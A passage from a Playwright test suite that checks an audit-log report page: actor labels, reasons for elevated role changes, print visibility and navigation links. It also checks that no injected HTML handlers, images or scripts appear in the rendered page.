      page.locator(`#change-${index + 1} td.actor .actor-label`).textContent(),
    ).resolves.toBe(revealInvisible(found.attribution.label));
    const offLog = change(covered, caseNamed("an elevated role granted to a user while"));
    const reason = page.locator(`#change-${offLog.index + 1} .actor-reason`);
    await expect(reason.textContent()).resolves.toBe(offLog.change.attribution.reason);
    expect(await reason.isVisible()).toBe(true);
    await page.emulateMedia({ media: "print" });
    expect(await reason.isVisible()).toBe(true);
    expect(await page.locator("#audit-log-coverage").isVisible()).toBe(true);
    expect(await page.locator("#unaccounted").isVisible()).toBe(true);
    await expect(page.locator("#unaccounted h3").textContent()).resolves.toBe(
      `Elevated changes nobody can account for (${unaccounted("covered")})`,
    );
    const injected = await page.evaluate(`({
      handlers: Array.from(document.querySelectorAll("*")).filter((el) =>
        Array.from(el.attributes).some((a) => a.name.toLowerCase().startsWith("on")),
      ).length,
      images: document.querySelectorAll("img").length,
      scripts: document.scripts.length,
      bold: document.querySelectorAll("main b").length,
    })`);
    expect(injected).toEqual({ handlers: 0, images: 0, scripts: 2, bold: 0 });
    // The by-actor link turns to the actor's first change.
    await page.emulateMedia({ media: "screen" });
    await page.locator("#changes-by-actor a", { hasText: "SCIM" }).click();
    const hash = await page.evaluate("window.location.hash");
    expect(hash).toMatch(/^#change-\d+$/);
    expect(await page.locator(String(hash)).isVisible()).toBe(true);
    expect(problems).toEqual([]);
    await page.pdf({ path: join(org.dir, "covered.pdf") });
    await page.close();
  });
});
